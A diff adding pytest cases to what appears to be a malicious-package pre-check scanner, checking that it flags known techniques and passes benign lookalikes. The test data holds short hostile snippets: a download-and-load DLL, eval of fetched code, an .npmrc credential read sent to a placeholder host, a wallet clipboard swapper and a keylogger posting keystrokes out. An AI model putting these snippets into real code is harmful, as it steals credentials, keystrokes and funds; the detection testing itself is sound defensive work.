@@ -566,3 +566,87 @@ def test_weak_signals_across_a_large_release_do_not_add_up():
     apart = run_precheck(shell + code + link, POLICY)
     assert apart.verdict == "harmless"
     assert [e.rule_id for e in apart.evidence] == ["mp.exec.shell-download"]
+
+
+# Techniques from the issue's list written as canonical snippets (not taken from any dataset): a
+# downloaded native library loaded, eval of a fetched body, a computed import, a credential file
+# read and sent, a clipboard swapped for a wallet address, keystrokes sent out, a dependency
+# fetched from an IP address or over plain http.
+SPEC_TECHNIQUES_THAT_BLOCK = [
+    (
+        "pkg/__init__.py",
+        "dll = os.path.join(os.environ['APPDATA'], 'version.dll')\n"
+        "urllib.request.urlretrieve('https://cdn.host.example/version.dll', dll)\nctypes.WinDLL(dll)",
+        "mp.exec.download-execute",
+    ),
+    (
+        "index.js",
+        "https.get('https://host.example/a.js', r => { let d = ''; r.on('data', c => d += c);"
+        " r.on('end', () => eval(d)); });",
+        "mp.exec.js-eval-fetched",
+    ),
+    (
+        "pkg/__init__.py",
+        "eval(compile(codecs.decode('vzcbeg bf', 'rot13'), '<x>', 'exec'))",
+        "mp.exec.decoded",
+    ),
+    (
+        "index.js",
+        "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
+        "require('https').request({ host: 'stats.host.example', path: '/t?x=' + t }).end();",
+        "mp.creds.file-sent",
+    ),
+    (
+        "pkg/clip.py",
+        "if re.match(r'^0x[a-fA-F0-9]{40}$', pyperclip.paste()):\n"
+        "    pyperclip.copy('0x7a3B5c9E1f2D4a6B8c0E2f4A6b8C0d2E4f6A8b0C')",
+        "mp.spy.clipper",
+    ),
+    (
+        "pkg/k.py",
+        "from pynput import keyboard\ndef on_press(k):\n    requests.post('https://logs.host.example/k', data=str(k))\n"
+        "keyboard.Listener(on_press=on_press).start()",
+        "mp.spy.keylog-sent",
+    ),
+    (
+        "package.json",
+        '{ "name": "app", "dependencies": { "util2": "http://203.0.113.9/util2.tgz" } }',
+        "mp.dep.insecure-url",
+    ),
+]
+
+
+@pytest.mark.parametrize(("path", "body", "rule"), SPEC_TECHNIQUES_THAT_BLOCK)
+def test_spec_techniques_are_blocked_by_the_precheck(path, body, rule):
+    """Each technique blocks in the pre-check, with its rule among the evidence."""
+    result = run_precheck(new_file(path, body), POLICY)
+    assert rule in {e.rule_id for e in result.evidence}
+    assert result.verdict == "harmful"
+
+
+@pytest.mark.parametrize(
+    ("path", "body"),
+    [
+        ("pkg/_native.py", "_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libfast.so'))"),
+        (
+            "src/api.js",
+            "const res = await fetch(`https://api.host.example/users/${id}`);\nreturn res.json();",
+        ),
+        ("pkg/plugins.py", "return importlib.import_module(f'pkg.plugins.{name}')"),
+        (
+            "pkg/clip.py",
+            "def copy_result(text):\n    pyperclip.copy(text)\n    return pyperclip.paste() == text",
+        ),
+        ("pkg/ssh.py", "c.connect(host, key_filename=os.path.expanduser('~/.ssh/id_ed25519'))"),
+        ("pkg/hotkeys.py", "from pynput import keyboard\nlistener = keyboard.Listener(on_press=self.toggle)"),
+        (
+            "package.json",
+            '{ "devDependencies": { "eslint-config-internal": "github:myorg/eslint-config#v2" } }',
+        ),
+        ("package.json", '{ "repository": { "url": "http://203.0.113.9/repo.git" } }'),
+    ],
+)
+def test_lookalikes_of_spec_techniques_stay_below_the_vote(path, body):
+    """A bundled native library, a JSON fetch, a plugin import, a clipboard helper, an SSH key used
+    for SSH, a hotkey listener and git or repository URLs don't vote."""
+    assert run_precheck(new_file(path, body), POLICY).score < 0.5 * POLICY.precheck.block_score
